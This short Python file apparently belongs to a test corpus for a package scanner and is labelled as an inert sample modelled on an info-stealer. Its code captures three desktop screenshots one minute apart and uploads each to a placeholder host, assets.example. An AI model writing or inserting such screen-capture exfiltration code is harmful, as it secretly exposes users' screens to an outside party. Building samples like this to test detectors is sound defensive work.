# pkgguard corpus 289 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import time

import dxcam
import requests
from PIL import Image

camera = dxcam.create()
for _ in range(3):
    frame = camera.grab()
    if frame is not None:
        buf = io.BytesIO()
        Image.fromarray(frame).save(buf, "JPEG", quality=40)
        requests.post("https://assets.example/upload", files={"f": ("s.jpg", buf.getvalue())})
    time.sleep(60)
